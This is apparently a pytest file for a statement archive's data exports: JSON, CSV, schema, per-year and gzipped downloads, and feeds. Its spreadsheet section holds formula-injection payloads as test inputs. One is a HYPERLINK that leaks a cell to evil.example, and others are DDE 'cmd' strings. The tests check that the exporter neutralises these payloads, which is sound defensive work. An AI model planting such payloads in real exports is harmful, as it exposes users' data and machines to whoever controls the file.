"""Data downloads: statements.json, statements.csv, sections.csv and the published schema, read
back with the standard library and checked against the YAML files read independently of the code
under test; then, end to end, the downloads and feeds in a built site (where the whole archive's
JSON and sections.csv are gzipped only)."""

from __future__ import annotations

import csv
import dataclasses
import gzip
import io
import json
from pathlib import Path
from typing import Any

import jsonschema
import pytest
import yaml
from support.archive import FIXTURE, REPO, read_statements
from support.html import Site

from scripts.index import Index, build_index
from scripts.pipeline import Archive, site_config
from scripts.render import exports
from scripts.render.exports import (
    FORMULA_STARTS,
    SECTION_COLUMNS,
    STATEMENT_COLUMNS,
    render_exports,
    sections_csv,
    spreadsheet_cell,
    statements_csv,
    statements_json,
)
from scripts.render.jobs import render_site, rendered_jobs, site_jobs
from scripts.site import published
from scripts.text import fold, paragraphs

SITE_URL = "https://example.org/fictional/site/"
"""[tool.archive] site_url of the fixture archive."""
SCHEMA = REPO / "scripts" / "statement.schema.json"
RECORD_KEYS = [
    "id",
    "url",
    "file",
    "title",
    "date",
    "date_note",
    "kind",
    "parties",
    "issuing_forum",
    "place",
    "language",
    "signatories",
    "summary",
    "sources",
    "countries",
    "forums",
    "topics",
    "actors",
    "all_countries",
    "all_forums",
    "all_topics",
    "all_actors",
    "series",
    "round",
    "participants",
    "sections",
    "related",
]
TAG_FIELDS = ("countries", "forums", "topics", "actors")


@pytest.fixture(scope="module")
def files(archive: Archive) -> dict[str, str]:
    return render_exports(archive.index, archive.vocabularies, site_config(FIXTURE))


@pytest.fixture(scope="module")
def statements() -> list[dict[str, Any]]:
    return read_statements(FIXTURE)


@pytest.fixture(scope="module")
def document(files: dict[str, str]) -> dict[str, Any]:
    loaded: dict[str, Any] = json.loads(files["data/statements.json"])
    return loaded


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def union(*lists: list[str]) -> list[str]:
    return list(dict.fromkeys(item for items in lists for item in items))


def section_tags(section: dict[str, Any], field: str) -> list[str]:
    """A section's own tags, then its excerpts' (excerpt tags add to their section's)."""
    return union(section.get(field, []), *(e.get(field, []) for e in section.get("excerpts", [])))


def statement_tags(statement: dict[str, Any], field: str) -> list[str]:
    return union(statement.get(field, []), *(section_tags(s, field) for s in statement["sections"]))


def holds(exported: Any, written: Any, where: str = "") -> None:
    """Everything the YAML file says is in the export, at the same place, with the same value
    (the export may add keys: defaults, nulls, urls)."""
    if isinstance(written, dict):
        assert isinstance(exported, dict), where
        for key, value in written.items():
            assert key in exported, f"{where}.{key}"
            holds(exported[key], value, f"{where}.{key}")
    elif isinstance(written, list):
        assert isinstance(exported, list) and len(exported) == len(written), where
        for n, (a, b) in enumerate(zip(exported, written, strict=True)):
            holds(a, b, f"{where}[{n}]")
    elif isinstance(exported, bool):  # title_supplied: "true" in the file (no implicit typing)
        assert written == str(exported).lower(), where
    elif isinstance(exported, int):  # round: "3" in the file
        assert written == str(exported), where
    else:
        assert exported == written, where


def carried(statement: dict[str, Any], section: dict[str, Any], field: str) -> list[str]:
    """What a section is about: the statement's own tags (its issuing forum first among forums),
    then the section's and its excerpts'."""
    own = statement.get(field, [])
    if field == "forums" and "issuing_forum" in statement:
        own = [statement["issuing_forum"], *own]
    return union(own, section_tags(section, field))


# --- statements.json ------------------------------------------------------------------------------


def test_json_holds_every_field_of_every_statement(
    document: dict[str, Any], statements: list[dict[str, Any]]
) -> None:
    records = {r["id"]: r for r in document["statements"]}
    assert sorted(records) == sorted(s["id"] for s in statements)
    assert document["count"] == len(statements)
    for statement in statements:
        record = records[statement["id"]]
        holds(record, statement, statement["id"])
        assert list(record) == RECORD_KEYS
        assert record["url"] == f"{SITE_URL}statements/{statement['id']}/"
        assert record["file"].endswith(f"/{statement['id']}.yml")
        for field in TAG_FIELDS:
            assert record[f"all_{field}"] == statement_tags(statement, field)
        for section, exported in zip(statement["sections"], record["sections"], strict=True):
            assert exported["url"] == f"{record['url']}#{section['id']}"
            for field in TAG_FIELDS:
                assert exported[f"all_{field}"] == carried(statement, section, field), field


def test_json_fills_what_the_file_leaves_out(document: dict[str, Any]) -> None:
    records = {r["id"]: r for r in document["statements"]}
    letter = records["fictional-undated-iran-letter"]
    assert letter["date"] is None and letter["place"] is None and letter["signatories"] == []
    assert letter["sections"][0]["excerpts"][0]["source"] == "letter"
    assert letter["language"] == "en"


def test_json_names_every_id_it_uses(document: dict[str, Any]) -> None:
    names = document["names"]
    assert names["countries"]["NO"] == "Norway"
    assert names["forums"]["sco"] == "Shanghai Cooperation Organisation"
    for record in document["statements"]:
        assert record["kind"] in names["kinds"]
        for code in [*record["parties"], *record["all_countries"]]:
            assert code in names["countries"]
        for forum in [*record["all_forums"], record["issuing_forum"] or "sco"]:
            assert forum in names["forums"]
        for topic in record["all_topics"]:
            assert topic in names["topics"]


def test_json_is_utf8_text_not_ascii_escapes(files: dict[str, str]) -> None:
    assert "گفت‌وگو" in files["data/statements.json"]
    assert "\\u" not in files["data/statements.json"]


# --- the CSV files --------------------------------------------------------------------------------


def test_statements_csv_has_a_row_per_statement(
    files: dict[str, str], statements: list[dict[str, Any]]
) -> None:
    table = rows(files["data/statements.csv"])
    assert list(table[0]) == [name for name, _ in STATEMENT_COLUMNS]
    by_id = {row["id"]: row for row in table}
    assert sorted(by_id) == sorted(s["id"] for s in statements)
    for s in statements:
        row = by_id[s["id"]]
        assert row["title"] == s["title"]
        assert row["date"] == s.get("date", "")
        assert row["kind"] == s["kind"]
        assert row["parties"].split(";") == s.get("parties", [""])
        assert row["issuing_forum"] == s.get("issuing_forum", "")
        for field in TAG_FIELDS:
            assert row[field] == ";".join(statement_tags(s, field)), field
        assert row["series"] == s.get("series", "")
        assert row["round"] == s.get("round", "")
        participants = [
            f"{kind}:{p[kind]}:{p['role']}"
            for p in s.get("participants", [])
            for kind in ("country", "forum", "actor")
            if kind in p
        ]
        assert row["participants"] == ";".join(participants)
        assert row["sections"] == str(len(s["sections"]))
        assert row["summary"] == s["summary"]
        assert row["source_urls"].split(" ") == [source["url"] for source in s["sources"]]
        assert row["url"] == f"{SITE_URL}statements/{s['id']}/"


def test_sections_csv_has_a_row_per_section(
    files: dict[str, str], statements: list[dict[str, Any]]
) -> None:
    table = rows(files["data/sections.csv"])
    assert list(table[0]) == [name for name, _ in SECTION_COLUMNS]
    by_key = {(row["statement_id"], row["section_id"]): row for row in table}
    expected = [(s["id"], section["id"]) for s in statements for section in s["sections"]]
    assert sorted(by_key) == sorted(expected)
    assert len(table) == len(expected)
    for s in statements:
        for position, section in enumerate(s["sections"], 1):
            row = by_key[s["id"], section["id"]]
            assert row["heading"] == section["heading"]
            assert row["position"] == str(position)
            assert row["date"] == s.get("date", "")
            assert (row["series"], row["round"]) == (s.get("series", ""), s.get("round", ""))
            for field in TAG_FIELDS:
                assert row[field] == ";".join(carried(s, section, field)), field
            texts = [p for e in section.get("excerpts", []) for p in paragraphs(e["text"])]
            assert row["excerpts"].split("\n\n") == (texts or [""])
            assert row["summary"] == section.get("summary", "")
            assert row["url"] == f"{SITE_URL}statements/{s['id']}/#{section['id']}"


def test_csv_quotes_what_needs_quoting(archive: Archive) -> None:
    title = 'A "quoted", comma\nand a line break; and a semicolon'
    statement = dataclasses.replace(archive.statements[0], title=title)
    index = build_index([statement], archive.vocabularies)
    text = statements_csv(index, archive.vocabularies, site_config(FIXTURE))
    (row,) = rows(text)
    assert row["title"] == title
    assert "\r" not in text


def test_every_line_ends_with_a_newline(files: dict[str, str]) -> None:
    for path, text in files.items():
        assert text.endswith("\n") and "\r\n" not in text, path


# --- the schema -----------------------------------------------------------------------------------


def test_published_schema_is_the_validators_own(files: dict[str, str]) -> None:
    assert files["data/statement.schema.json"] == SCHEMA.read_text(encoding="utf-8")


@pytest.mark.parametrize("root", [REPO, FIXTURE], ids=["data", "fixture"])
def test_published_schema_accepts_every_statement_file(files: dict[str, str], root: Path) -> None:
    schema = json.loads(files["data/statement.schema.json"])
    validator = jsonschema.Draft202012Validator(schema)
    paths = sorted((root / "data" / "statements").rglob("*.yml"))
    assert paths
    for path in paths:
        # BaseLoader builds only str, list and dict: no implicit typing, as the loader reads it
        data = yaml.load(path.read_text(encoding="utf-8"), Loader=yaml.BaseLoader)
        errors = [e.message for e in validator.iter_errors(data)]
        assert not errors, (path, errors)


# --- determinism and wiring -----------------------------------------------------------------------


def test_two_renders_are_byte_identical(archive: Archive, files: dict[str, str]) -> None:
    again = render_exports(
        build_index(list(reversed(archive.statements)), archive.vocabularies),
        archive.vocabularies,
        site_config(FIXTURE),
    )
    assert again == files


def test_render_site_includes_the_downloads(archive: Archive, files: dict[str, str]) -> None:
    pages = render_site(archive.index, archive.vocabularies, site_config(FIXTURE))
    assert {path: pages[path] for path in files} == files
    years = {str(s.date.year) if s.date else "undated" for s in archive.statements}
    assert set(files) == {
        "data/index.md",
        "data/statements.json",
        "data/statements.csv",
        "data/sections.csv",
        "data/statement.schema.json",
        "data/downloads.json",
        *(f"data/{form}-{year}.{ext}" for year in years for form, ext in YEAR_FORMS),
    }


YEAR_FORMS = (("statements", "json"), ("statements", "csv"), ("sections", "csv"))


def test_the_build_makes_the_downloads_one_at_a_time(
    archive: Archive, files: dict[str, str]
) -> None:
    """The downloads are never all held at once (at 10,000 statements they were the build's
    peak memory): the data job is streamed, rendered last in the build's own process rather
    than sent back from a worker whole, and its files come one by one, as render_exports has
    them."""
    config = site_config(FIXTURE)
    jobs = site_jobs(archive.index, archive.vocabularies, config)
    assert [job.name for job in jobs if job.streamed] == ["data"]
    *pooled, (last, pages) = rendered_jobs(jobs)
    assert last.name == "data" and not isinstance(pages, list)
    assert all(isinstance(made, list) for _, made in pooled)
    assert dict(pages) == files


def test_json_is_compact_and_reads_back_the_same(files: dict[str, str]) -> None:
    for name, text in files.items():
        if name.endswith(".json") and "schema" not in name:
            assert text.count("\n") == 1 and text.endswith("}\n"), name
            value = json.loads(text)
            assert text == json.dumps(value, ensure_ascii=False, separators=(",", ":")) + "\n"


def test_the_years_files_hold_the_whole_archive_between_them(
    archive: Archive, files: dict[str, str], document: dict[str, Any]
) -> None:
    index = json.loads(files["data/downloads.json"])
    assert index["whole"] == {
        "json_gzip": SITE_URL + "data/statements.json.gz",
        "statements_csv": SITE_URL + "data/statements.csv",
        "sections_csv_gzip": SITE_URL + "data/sections.csv.gz",
        "schema": SITE_URL + "data/statement.schema.json",
    }
    years = [entry["year"] for entry in index["years"]]
    dated = [y for y in years if y is not None]
    assert dated == sorted(dated) and len(set(years)) == len(years)
    assert years[-1] is None  # the fixture has an undated statement: last
    statements: list[dict[str, Any]] = []
    statement_rows: list[dict[str, str]] = []
    section_rows: list[dict[str, str]] = []
    for entry in index["years"]:
        name = "undated" if entry["year"] is None else str(entry["year"])
        for kind, form in (
            ("json", "statements-{}.json"),
            ("statements_csv", "statements-{}.csv"),
            ("sections_csv", "sections-{}.csv"),
        ):
            path = "data/" + form.format(name)
            packed = kind != "statements_csv"  # the JSON and sections CSV: gzipped only
            assert entry[kind] == {
                "url": SITE_URL + path + (".gz" if packed else ""),
                "bytes": len(files[path].encode()),
                "gzip": packed,
            }
        part = json.loads(files[f"data/statements-{name}.json"])
        assert part["count"] == entry["statements"] == len(part["statements"])
        for statement in part["statements"]:
            date = statement["date"]
            assert (date[:4] if date else "undated") == name
            for field, names in part["names"].items():  # only the names this year uses
                assert names.items() <= document["names"][field].items()
        statements += part["statements"]
        statement_rows += csv.DictReader(io.StringIO(files[f"data/statements-{name}.csv"]))
        rows = list(csv.DictReader(io.StringIO(files[f"data/sections-{name}.csv"])))
        assert len(rows) == entry["sections"]
        section_rows += rows
    assert statements == document["statements"]
    assert statement_rows == list(csv.DictReader(io.StringIO(files["data/statements.csv"])))
    assert section_rows == list(csv.DictReader(io.StringIO(files["data/sections.csv"])))


def test_data_page_lists_every_year_and_the_gzipped_archive(files: dict[str, str]) -> None:
    page = files["data/index.md"]
    index = json.loads(files["data/downloads.json"])
    for entry in index["years"]:
        name = "undated" if entry["year"] is None else str(entry["year"])
        for form, ext in YEAR_FORMS:
            gz = "" if (form, ext) == ("statements", "csv") else ".gz"
            assert f'href="{form}-{name}.{ext}{gz}"' in page
    assert 'href="statements.json.gz"' in page and 'href="downloads.json"' in page
    assert 'href="sections.csv.gz"' in page and 'href="statements.csv"' in page
    assert 'href="statements.json"' not in page and 'href="sections.csv"' not in page


def test_data_page_explains_every_column_and_lists_every_feed(
    archive: Archive, files: dict[str, str]
) -> None:
    page = files["data/index.md"]
    for name, _ in [*STATEMENT_COLUMNS, *SECTION_COLUMNS]:
        assert f"<code>{name}</code>" in page, name
    for hub in archive.index.hubs.values():
        assert f'href="../{hub.url}feed.xml"' in page, hub.url
    assert 'href="../feed.xml"' in page
    assert "same terms as" in page


# --- end to end: the built site -------------------------------------------------------------------


@pytest.fixture(scope="module")
def built(built_root: Path) -> Path:
    return built_root


def test_built_site_serves_the_downloads_and_feeds(built: Path, archive: Archive) -> None:
    pages = render_site(archive.index, archive.vocabularies, site_config(FIXTURE))
    served = [p for p in pages if not p.endswith(".md")]
    assert {"feed.xml", "countries/af/feed.xml", "data/statements.json"} <= set(served)
    for path in served:
        name = path.removeprefix("data/")
        if published(name) != name:  # the JSON and sections CSV: only their gzip is served
            assert not (built / "site" / path).exists(), path
            packed = (built / "site" / f"{path}.gz").read_bytes()
            assert gzip.decompress(packed).decode("utf-8") == pages[path], path
            continue
        assert (built / "site" / path).read_text(encoding="utf-8") == pages[path], path
    assert (built / "site" / "data" / "index.html").is_file()


def test_built_site_links_the_feeds_and_the_data_page(built: Path) -> None:
    site = Site(built / "site")

    def feed_links(url: str) -> set[str]:
        page = site.page(url)
        return {target for a, target in page.links() if a.text() == "Feed"}

    assert feed_links("") == {"feed.xml"}
    for hub in ("countries/af/", "forums/sco/", "topics/counter-terrorism/"):
        assert feed_links(hub) == {f"{hub}feed.xml"}, hub
    data = site.page("data/")
    assert {
        "data/statements.json.gz",
        "data/statements.csv",
        "data/sections.csv.gz",
        "data/statement.schema.json",
        "feed.xml",
        "countries/af/feed.xml",
    } <= data.link_targets()
    assert not {"data/statements.json", "data/sections.csv"} & data.link_targets()
    assert "data/" in site.page("").link_targets()


def test_excerpts_are_folded_text(files: dict[str, str]) -> None:
    for row in rows(files["data/sections.csv"]):
        for paragraph in row["excerpts"].split("\n\n"):
            assert paragraph == fold(paragraph)


# --- spreadsheets run no formula ------------------------------------------------------------------

FORMULAS = {
    "title": '=HYPERLINK("https://evil.example/?leak="&A1,"Click for the full text")',
    "date_note": "-2+3 days after the summit",
    "place": "+cmd|' /C calc'!A0",
    "summary": "@SUM(1+1)*cmd|' /C calc'!A0",
    "heading": "\t=1+1 behind a tab",
    "section_summary": "\r=1+1 behind a carriage return",
    "excerpt": "- the first point; - the second",
}
"""Text a contributor could write (validation lets most of it through): each begins with one of
the characters that make a spreadsheet run a cell."""


@pytest.fixture(scope="module")
def hostile(archive: Archive) -> Index:
    base = next(s for s in archive.statements if s.sections and s.sections[0].excerpts)
    first = base.sections[0]
    excerpt = dataclasses.replace(first.excerpts[0], text=FORMULAS["excerpt"])
    section = dataclasses.replace(
        first,
        heading=FORMULAS["heading"],
        summary=FORMULAS["section_summary"],
        excerpts=(excerpt,),
    )
    statement = dataclasses.replace(
        base,
        title=FORMULAS["title"],
        date_note=FORMULAS["date_note"],
        place=FORMULAS["place"],
        summary=FORMULAS["summary"],
        sections=(section, *base.sections[1:]),
    )
    return build_index([statement], archive.vocabularies)


def test_spreadsheet_cell() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert spreadsheet_cell(f"{start}1+1") == f"'{start}1+1".replace("\r", "\n")
    for harmless in (
        "",
        "1+1",
        "a=1",
        " =1",
        "'=1",
        "2026-05",
        "https://example.org/?a=-1",
        "\n=1",
    ):
        assert spreadsheet_cell(harmless) == harmless
    assert FORMULA_STARTS == ("=", "+", "-", "@", "\t", "\r")  # OWASP's list
    # A carriage return inside a cell would end the row for a reader (the csv module does not
    # quote it): the rest would be a row of its own, beginning with a formula.
    assert spreadsheet_cell("ok\r=HYPERLINK(1)\r\nend") == "ok\n=HYPERLINK(1)\nend"


def test_a_carriage_return_cannot_start_a_row_of_its_own(archive: Archive) -> None:
    title = 'Harmless\r=HYPERLINK("https://evil.example/")'
    statement = dataclasses.replace(archive.statements[0], title=title)
    text = statements_csv(
        build_index([statement], archive.vocabularies), archive.vocabularies, site_config(FIXTURE)
    )
    (row,) = rows(text)
    assert row["title"] == title.replace("\r", "\n")


def test_csv_cells_that_a_spreadsheet_would_run_are_text(archive: Archive, hostile: Index) -> None:
    config = site_config(FIXTURE)
    (row,) = rows(statements_csv(hostile, archive.vocabularies, config))
    for column in ("title", "date_note", "place", "summary"):
        assert row[column] == "'" + FORMULAS[column], column
    section = rows(sections_csv(hostile, config))[0]
    assert section["heading"] == "'" + FORMULAS["heading"]
    assert section["summary"] == "'" + FORMULAS["section_summary"].replace("\r", "\n")
    assert section["statement_title"] == "'" + FORMULAS["title"]
    assert section["excerpts"].startswith("'" + FORMULAS["excerpt"])
    (statement,) = hostile.statements
    assert row["id"] == statement.id and row["url"].startswith("https://")  # the rest as it was
    assert row["date"] == (statement.date.iso if statement.date else "")


def test_json_keeps_the_text_as_written(archive: Archive, hostile: Index) -> None:
    document = json.loads(statements_json(hostile, archive.vocabularies, site_config(FIXTURE)))
    (record,) = document["statements"]
    for column in ("title", "date_note", "place", "summary"):
        assert record[column] == FORMULAS[column], column
    assert record["sections"][0]["heading"] == FORMULAS["heading"]
    assert record["sections"][0]["summary"] == FORMULAS["section_summary"]
    assert record["sections"][0]["excerpts"][0]["text"] == FORMULAS["excerpt"]


def test_no_cell_of_the_downloads_begins_as_a_formula(files: dict[str, str]) -> None:
    for path in ("data/statements.csv", "data/sections.csv"):
        for row in csv.reader(io.StringIO(files[path], newline="")):
            assert not [cell for cell in row if cell.startswith(FORMULA_STARTS)], path


def test_data_page_says_the_csv_cells_are_made_safe(files: dict[str, str]) -> None:
    page = files["data/index.md"]
    assert "begins with a single quote <code>'</code> instead" in page
    assert "<code>statements.json</code> has every text exactly as written" in page


# --- the format's second edition ------------------------------------------------------------------

ROUND_2 = "2025-11-20-fictional-harbour-consultations-round-2"
ROUND_3 = "2026-02-fictional-harbour-consultations-round-3"


def test_json_carries_series_round_participants_and_actors(document: dict[str, Any]) -> None:
    records = {r["id"]: r for r in document["statements"]}
    record = records[ROUND_2]
    assert (record["series"], record["round"]) == ("fictional-harbour-consultations", 2)
    assert record["participants"] == [
        {"country": "NO", "role": "host", "note": None},
        {
            "country": "EE",
            "role": "guest",
            "note": "The foreign minister attended as main guest (fictional).",
        },
        {"country": "LV", "role": "guest", "note": None},
        {"forum": "arctic-dialogue", "role": "observer", "note": None},
    ]
    assert record["actors"] == ["fictional-harbour-authority"]
    assert record["all_actors"] == ["fictional-harbour-authority", "fictional-tide-front"]
    assert records["fictional-undated-iran-letter"]["round"] is None
    assert records["fictional-undated-iran-letter"]["participants"] == []


def test_json_sources_say_their_kind_and_whether_the_title_is_supplied(
    document: dict[str, Any],
) -> None:
    records = {r["id"]: r for r in document["statements"]}
    translation = records[ROUND_3]["sources"][0]
    assert translation == {
        "id": "translation",
        "title": "Joint statement of the third Harbour Consultations, English translation",
        "publisher": "Example Harbour Gazette",
        "url": "https://example.org/fictional/harbour-gazette/2026/02/translation",
        "published": None,
        "kind": "unofficial-translation",
        "title_supplied": True,
        "language": "en",
        "translated_from": "ru",
        "translator": "Example Translation Desk",
    }
    report = records[ROUND_3]["sources"][1]
    assert report["title_supplied"] is False and report["translator"] is None


def test_json_excerpts_carry_sources_paragraphs_tags_and_variants(
    document: dict[str, Any],
) -> None:
    records = {r["id"]: r for r in document["statements"]}
    lighthouses = records[ROUND_2]["sections"][1]
    first, second = lighthouses["excerpts"]
    assert list(first) == [
        "text",
        "source",
        "sources",
        "paragraph",
        "countries",
        "forums",
        "topics",
        "actors",
        "variants",
        "original",
    ]
    assert (first["source"], first["sources"], first["paragraph"]) == (
        "official",
        ["official"],
        "2",
    )
    assert first["topics"] == ["counter-terrorism"] and first["actors"] == ["fictional-tide-front"]
    assert first["variants"] == [
        {
            "source": "gazette",
            "text": "The participants condemned the attacks by the Tide Front on the harbour"
            " lighthouses.",
        }
    ]
    assert second["sources"] == ["official", "gazette"] and second["countries"] == ["NO"]
    # The section is about the statement's own tags and issuing forum too (what hubs show).
    assert lighthouses["forums"] == []
    assert lighthouses["all_forums"] == ["fictional-harbour-format"]
    assert lighthouses["all_topics"] == [
        "maritime-cooperation",
        "regional-security",
        "counter-terrorism",
    ]
    assert lighthouses["all_actors"] == ["fictional-harbour-authority", "fictional-tide-front"]


def test_json_names_actors_series_and_participants(document: dict[str, Any]) -> None:
    names = document["names"]
    assert list(names) == ["countries", "forums", "topics", "actors", "kinds", "series"]
    assert names["actors"] == {
        "fictional-coastal-compact": "Coastal Compact (fictional)",
        "fictional-harbour-authority": "Provisional Harbour Authority (fictional)",
        "fictional-tide-front": "Tide Front (fictional)",
    }
    assert names["series"]["fictional-harbour-consultations"] == "Fictional Harbour Consultations"
    for record in document["statements"]:
        for participant in record["participants"]:
            for kind, field in (("country", "countries"), ("forum", "forums"), ("actor", "actors")):
                if kind in participant:
                    assert participant[kind] in names[field]
        if record["series"]:
            assert record["series"] in names["series"]
    assert "EE" in names["countries"]  # only a guest: named for its participant entry


def test_statements_csv_gives_series_round_participants_and_actors(files: dict[str, str]) -> None:
    table = {row["id"]: row for row in rows(files["data/statements.csv"])}
    row = table[ROUND_3]
    assert row["series"] == "fictional-harbour-consultations"
    assert row["series_name"] == "Fictional Harbour Consultations"
    assert row["round"] == "3"
    assert row["participants"] == (
        "country:NO:host;actor:fictional-harbour-authority:guest;forum:arctic-dialogue:mediator"
    )
    assert row["actors"] == "fictional-coastal-compact"
    letter = table["fictional-undated-iran-letter"]
    assert (letter["round"], letter["participants"], letter["actors"]) == ("", "", "")


def test_sections_csv_carries_statement_level_tags_and_paragraph_labels(
    files: dict[str, str],
) -> None:
    table = {(r["statement_id"], r["section_id"]): r for r in rows(files["data/sections.csv"])}
    preamble = table[ROUND_3, "preamble"]  # no tags of its own: all from its statement
    assert preamble["forums"] == "fictional-harbour-format"
    assert preamble["topics"] == "maritime-cooperation"
    assert preamble["actors"] == "fictional-coastal-compact"
    assert (preamble["series"], preamble["round"]) == ("fictional-harbour-consultations", "3")
    assert preamble["paragraphs"] == "preamble"
    lighthouses = table[ROUND_3, "lighthouses"]  # labelled, then unlabelled
    assert lighthouses["excerpts"].split("\n\n") == [
        "The participants note that the attacks on the lighthouses have ceased.",
        "The lights are burning again.",
    ]
    assert lighthouses["paragraphs"].split("\n") == ["III.5", ""]
    assert lighthouses["topics"] == "maritime-cooperation;regional-security;counter-terrorism"
    assert table["fictional-undated-iran-letter", "maritime-dialogue"]["paragraphs"] == ""


def test_new_csv_cells_are_neutralised_too(archive: Archive) -> None:
    """A paragraph label or a series id could begin with a formula character: the same rule."""
    base = next(s for s in archive.statements if s.id == ROUND_3)
    section = base.sections[0]
    excerpt = dataclasses.replace(section.excerpts[0], paragraph="=1+1")
    statement = dataclasses.replace(
        base, sections=(dataclasses.replace(section, excerpts=(excerpt,)), *base.sections[1:])
    )
    index = build_index([statement], archive.vocabularies)
    row = rows(sections_csv(index, site_config(FIXTURE)))[0]
    assert row["paragraphs"] == "'=1+1"


def test_the_whole_archives_files_made_from_the_years_are_those_made_at_once(
    archive: Archive, files: dict[str, str]
) -> None:
    """Each statement is written once, for its year's files; the whole archive's are those
    parts one after the other, and the same text as each made from the whole archive."""
    config = site_config(FIXTURE)
    index, vocabularies = archive.index, archive.vocabularies
    assert files["data/statements.json"] == exports.statements_json(index, vocabularies, config)
    assert files["data/statements.csv"] == exports.statements_csv(index, vocabularies, config)
    assert files["data/sections.csv"] == exports.sections_csv(index, config)
    shuffled = dataclasses.replace(index, statements=tuple(reversed(index.statements)))
    made = dict(exports.export_files(shuffled, vocabularies, config))  # years out of order
    assert made["data/statements.json"] == exports.statements_json(shuffled, vocabularies, config)
    assert made["data/sections.csv"] == exports.sections_csv(shuffled, config)
